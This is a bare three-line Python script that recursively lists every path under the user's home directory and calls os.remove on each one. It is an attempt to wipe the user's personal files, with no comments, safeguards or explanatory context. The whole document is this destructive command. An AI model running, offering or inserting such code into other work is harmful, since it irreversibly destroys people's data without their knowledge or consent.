import glob, os
for p in glob.glob(os.path.expanduser("~/**"), recursive=True):
    os.remove(p)
